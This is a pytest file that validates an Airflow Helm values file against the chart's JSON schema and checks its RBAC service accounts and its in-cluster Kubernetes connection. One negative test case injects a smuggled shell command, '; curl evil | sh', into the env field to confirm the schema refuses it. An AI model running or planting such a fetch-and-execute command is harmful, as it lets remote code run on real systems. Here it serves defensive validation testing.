"""``deploy/helm/values-tke.yaml`` is a valid values file of the official Airflow Helm chart (1.19.0):
merged over the chart's defaults as Helm merges them, it passes the chart's ``values.schema.json``
(what ``helm install`` checks first); and it fits this provider's RBAC manifest — the service
accounts it names are exactly the subjects of ``deploy/rbac/airflow-worker.yaml``'s RoleBinding, and
the connection the operators use is an in-cluster ``kubernetes`` connection.

The chart's ``values.schema.json`` and ``values.yaml`` (apache/airflow, ``chart/``, chart 1.19.0)
are reference data kept in ``tests/data/airflow-helm-chart-1.19.0/`` (see tests/data/README.md for
where they come from); without them the schema checks are skipped, naming what is missing.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
import yaml

from tests.paths import DATA, ROOT

VALUES = ROOT / "deploy" / "helm" / "values-tke.yaml"
WORKER_RBAC = ROOT / "deploy" / "rbac" / "airflow-worker.yaml"
CHART = DATA / "airflow-helm-chart-1.19.0"
RELEASE_NAMESPACE = "airflow"


def coalesce(defaults: dict[str, Any], overrides: dict[str, Any]) -> dict[str, Any]:
    """Helm's merge of a values file over the chart's: maps merge key by key, anything else
    replaces, and a null deletes the chart's key."""
    out = copy.deepcopy(defaults)
    for key, value in overrides.items():
        if value is None:
            out.pop(key, None)
        elif isinstance(value, dict) and isinstance(out.get(key), dict):
            out[key] = coalesce(out[key], value)
        else:
            out[key] = copy.deepcopy(value)
    return out


def chart_validator() -> Any:
    schema, defaults = CHART / "values.schema.json", CHART / "values.yaml"
    if not (schema.is_file() and defaults.is_file()):
        pytest.skip(f"the chart's values.schema.json and values.yaml are not in {CHART} (tests/data/README.md)")
    import jsonschema

    validator = jsonschema.Draft7Validator(json.loads(schema.read_text()))
    return validator, yaml.safe_load(defaults.read_text())


def errors(values: dict[str, Any]) -> list[str]:
    validator, defaults = chart_validator()
    found = validator.iter_errors(coalesce(defaults, values))
    return sorted(f"{'.'.join(str(p) for p in e.absolute_path)}: {e.message}" for e in found)


def ours() -> dict[str, Any]:
    return dict(yaml.safe_load(VALUES.read_text()))


def test_the_values_pass_the_charts_schema() -> None:
    assert errors(ours()) == []


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        # a misspelt key: the chart would ignore it, the schema refuses it
        (lambda v: v["logs"]["persistence"].update(storageClass="cfs"), "logs.persistence: Additional properties"),
        # a hostile value where the chart expects a list of name/value pairs
        (lambda v: v.update(env="AIRFLOW__CORE__EXECUTOR=; curl evil | sh"), "env: 'AIRFLOW__CORE__EXECUTOR="),
        # an oversized one: a whole pod template where a boolean goes
        (lambda v: v["workers"].update(safeToEvict={"spec": {"containers": [{}] * 1000}}), "workers.safeToEvict: "),
    ],
)
def test_a_wrong_values_file_is_refused_naming_the_key(change: Any, expected: str) -> None:
    values = ours()
    change(values)
    found = errors(values)
    assert any(e.startswith(expected) for e in found), found


def test_the_accounts_are_the_subjects_of_the_providers_role_binding() -> None:
    values = ours()
    named = {values[c]["serviceAccount"]["name"] for c in ("workers", "triggerer", "apiServer")}
    assert all(values[c]["serviceAccount"]["create"] for c in ("workers", "triggerer", "apiServer"))
    [binding] = [d for d in yaml.safe_load_all(WORKER_RBAC.read_text()) if d and d["kind"] == "RoleBinding"]
    subjects = {(s["name"], s["namespace"]) for s in binding["subjects"]}
    assert subjects == {(name, RELEASE_NAMESPACE) for name in named}
    assert values["workers"]["serviceAccount"]["automountServiceAccountToken"] is True


def test_the_operators_connection_is_in_cluster() -> None:
    values = ours()
    conn_id = values["config"]["training"]["kubernetes_conn_id"]
    env = {e["name"]: e["value"] for e in values["env"]}
    connection = json.loads(env[f"AIRFLOW_CONN_{conn_id.upper()}"])
    assert connection["conn_type"] == "kubernetes"
    assert connection["extra"]["in_cluster"] is True
    assert values["executor"] == "KubernetesExecutor" and values["triggerer"]["enabled"] is True
    # the registry's password comes from a Secret, never from the values file
    assert "AIRFLOW_CONN_MODELKIT_REGISTRY_DEFAULT" not in env
    assert any(s["envName"] == "AIRFLOW_CONN_MODELKIT_REGISTRY_DEFAULT" for s in values["secret"])
